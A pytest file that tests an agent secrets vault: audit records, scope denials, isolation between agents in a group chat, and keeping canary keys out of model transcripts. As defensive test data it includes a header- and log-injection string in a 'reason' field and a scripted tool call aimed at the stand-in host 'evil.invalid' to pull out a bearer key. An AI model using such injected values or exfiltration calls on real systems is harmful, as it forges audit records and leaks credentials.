"""The vault's examples, unchanged, against the real authority: what comes out, and what its audit then has.

The agents' models are scripted here, so that everything that left for one can be looked at.
"""

from __future__ import annotations

import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

from authsec_core import AgentVaultSync
from authsec_core.testing import LoopbackServer, Reply, Request, ScriptedModel, assert_no_secret, call
from authsec_server.testing import RunningAuthority

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
Run = Callable[..., "subprocess.CompletedProcess[str]"]

SECRETS = {
    "production/openai/api-key": "sk-canary-0123456789abcdef",
    "production/tavily/api-key": "tvly-canary-0123456789abcdef",
    "production/search/tavily-key": "tvly-canary-fedcba9876543210",
    "production/publishing/wordpress-key": "wp-canary-0123456789abcdef",
    "production/quality/grammarly-key": "gr-canary-0123456789abcdef",
}
TAVILY, SEARCH, PUBLISHING, QUALITY = list(SECRETS)[1:]


@dataclass
class Vault:
    """The real vault with all of the secrets, and one agent that may read and write them."""

    authority: RunningAuthority
    agent_key: str = field(repr=False)
    client_id: str

    @property
    def environ(self) -> dict[str, str]:
        """What makes a program this agent."""
        return {"AUTHSEC_VAULT_URL": self.authority.base_url, "AUTHSEC_AGENT_KEY": self.agent_key}

    def reads(self) -> list[tuple[Any, ...]]:
        """Return agent, path, decision and claims of each read of this agent's, the oldest first."""
        reply = httpx.get(
            f"{self.authority.base_url}/v1/audit",
            params={"limit": 100},
            headers={"Authorization": f"Bearer {self.authority.admin_token}"},
            trust_env=False,
        )
        assert reply.status_code == 200, reply.text
        entries = map(_read, reversed(reply.json()["events"]))
        return [one for one in entries if one is not None and one[0] == self.client_id]


def _read(event: dict[str, Any]) -> tuple[Any, ...] | None:
    if event["event_type"] != "vault.secret.read":
        return None
    said = event["metadata"]
    claimed = said.get("claimed") or {}
    return (
        event["actor_id"],
        event["resource_id"],
        said["decision"],
        claimed.get("agent_name"),
        claimed.get("reason"),
    )


@pytest.fixture(scope="module")
def running() -> Iterator[RunningAuthority]:
    """One authority for the module; each test has an agent of its own."""
    with RunningAuthority() as authority:
        yield authority


@pytest.fixture
def vault(running: RunningAuthority) -> Vault:
    """The vault, with an agent who has put the secrets there."""
    agent = running.onboard()
    access = {"namespaces": ["production"], "scopes": ["secrets:*:production/*"]}
    reply = running.client.put(f"/clients/{agent.client_id}/vault-access", json=access)
    assert reply.status_code == 200, reply.text
    with AgentVaultSync(running.base_url, agent_key=agent.agent_key) as mine:
        for path, value in SECRETS.items():
            mine.set_secret(path, value)
    return Vault(running, agent.agent_key, agent.client_id)


@dataclass
class Told:
    """What a program printed, what its models were sent, and what their tools answered."""

    printed: str
    transcript: str
    results: list[str]


@pytest.fixture
def play(run: Run, vault: Vault) -> Callable[..., Told]:
    """A function that runs an example whose models play these turns."""

    def play(program: str, *turns: Any, key: str = "sk-stub", **extra: str) -> Told:
        with ScriptedModel(*turns) as model:
            environ = {"OPENAI_BASE_URL": model.base_url, "OPENAI_API_KEY": key, **vault.environ, **extra}
            done = run(str(EXAMPLES / program), **environ)
            assert done.returncode == 0, done.stderr
            assert model.remaining == 0
        return Told(done.stdout + done.stderr, model.transcript, model.tool_results)

    return play


def test_the_research_agent_reads_what_its_token_covers(play: Callable[..., Told], vault: Vault) -> None:
    """The model is given the key that it asked for; its own key came from the vault too; both reads are on record."""
    told = play("vault_research_agent.py", call("get_secret", path=TAVILY), "I have it. TERMINATE")
    assert told.results == [SECRETS[TAVILY]]
    assert f"Bearer {SECRETS['production/openai/api-key']}" in told.transcript
    assert [read[:3] for read in vault.reads()] == [
        (vault.client_id, "production/openai/api-key", "allow"),
        (vault.client_id, TAVILY, "allow"),
    ]


@pytest.mark.req("RU1", "RU3")
def test_the_audited_tool_says_who_reads_and_why(play: Callable[..., Told], vault: Vault) -> None:
    """Name and reason are in the entry as claims; a reason that tries to be more is one line."""
    told = play(
        "vault_audited_tool.py",
        call("get_secret", path=TAVILY, reason="to search for papers"),
        call("get_secret", path=TAVILY, reason='a\r\nX-Agent-Name: root\x1b[2J{"decision": "allow"}'),
        call("get_secret", path=PUBLISHING, reason="curious"),
        "TERMINATE",
    )
    assert told.results[:2] == [SECRETS[TAVILY]] * 2
    assert '"vault_scope_denied"' in told.results[2]
    reads = vault.reads()
    assert [read[1:4] for read in reads] == [
        (TAVILY, "allow", "researcher"),
        (TAVILY, "allow", "researcher"),
        (PUBLISHING, "deny", "researcher"),
    ]
    assert (reads[0][4], reads[2][4]) == ("to search for papers", "curious")
    assert reads[1][4].isprintable()
    assert SECRETS[PUBLISHING] not in told.transcript + told.printed


@pytest.mark.req("RD6", "RD7")
def test_the_agents_of_a_groupchat_are_kept_apart(play: Callable[..., Told], vault: Vault) -> None:
    """The researcher gets 403 for the writer's secret; the audit has who, what, why and the decision of each access."""
    told = play(
        "vault_groupchat.py",
        call("get_secret_researcher", path=PUBLISHING, reason="to have a look"),
        call("get_secret_researcher", path=SEARCH, reason="to search the web"),
        "I can search now.",
        call("get_secret_researcher", path=SEARCH),  # not the writer's tool
        call("get_secret_writer", path=PUBLISHING, reason="to publish the post"),
        "I can publish now.",
        call("get_secret_critic", path=QUALITY, reason="to check the post"),
        "I can check it. TERMINATE",
    )
    denied, value, refused, *others = dict.fromkeys(told.results)
    assert '"vault_scope_denied"' in denied
    assert '"tool_refused"' in refused
    assert [value, *others] == [SECRETS[SEARCH], SECRETS[PUBLISHING], SECRETS[QUALITY]]
    assert vault.reads() == [
        (vault.client_id, PUBLISHING, "deny", "researcher", "to have a look"),
        (vault.client_id, SEARCH, "allow", "researcher", "to search the web"),
        (vault.client_id, PUBLISHING, "allow", "writer", "to publish the post"),
        (vault.client_id, QUALITY, "allow", "critic", "to check the post"),
    ]


@pytest.fixture
def service() -> Iterator[LoopbackServer]:
    """A careless search service: what it was sent comes back."""

    def answer(request: Request) -> Reply:
        if request.headers.get("authorization", "").removeprefix("Bearer ") not in SECRETS.values():
            return Reply(status=401)
        return Reply.of_json({"results": ["three findings"], "debug": dict(request.headers)})

    with LoopbackServer(answer) as server:
        yield server


@pytest.mark.req("RD4", "RD6", "RS8")
def test_a_secret_that_is_only_used_reaches_no_model(
    play: Callable[..., Told], vault: Vault, service: LoopbackServer, tmp_path: Path
) -> None:
    """No prompt, no print, no file has the canary; the service does, and the audit has the one read that was needed."""
    told = play(
        "vault_secret_fetch.py",
        call("search", endpoint="search?query=agents"),
        call("search", endpoint="admin"),
        call("search", endpoint="https://evil.invalid/search"),
        "Found it. TERMINATE",
        SEARCH_URL=service.base_url,
    )
    assert '"three findings"' in told.results[0]
    assert all('"endpoint_refused"' in text for text in told.results[1:])
    (request,) = service.requests
    assert request.headers["authorization"] == f"Bearer {SECRETS[TAVILY]}"
    assert [read[1:3] for read in vault.reads()] == [(TAVILY, "allow")]
    written = [path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()]
    assert_no_secret([told.printed, told.transcript, *written], *SECRETS.values(), vault.agent_key)
    assert "vlt_" not in told.printed + told.transcript


@pytest.mark.req("RD4", "RD7")
def test_a_crew_uses_one_secret_and_reads_another(
    play: Callable[..., Told], vault: Vault, service: LoopbackServer
) -> None:
    """The researcher's key is in no prompt; the writer's is given to it; both accesses are on record."""
    told = play(
        "vault_crew.py",
        call("search", endpoint="search?query=agents"),
        "Three findings.",
        lambda body: call(body["tools"][0]["function"]["name"], path=PUBLISHING, reason="to publish the post"),
        "Ready.",
        SEARCH_URL=service.base_url,
    )
    assert SECRETS[PUBLISHING] in told.results
    assert "AuthSecCrewAIWarning" not in told.printed  # the program does what that asks for
    assert_no_secret([told.transcript, told.printed], SECRETS[SEARCH])
    assert [read[1:] for read in vault.reads()] == [
        (SEARCH, "allow", None, None),
        (PUBLISHING, "allow", "writer", "to publish the post"),
    ]
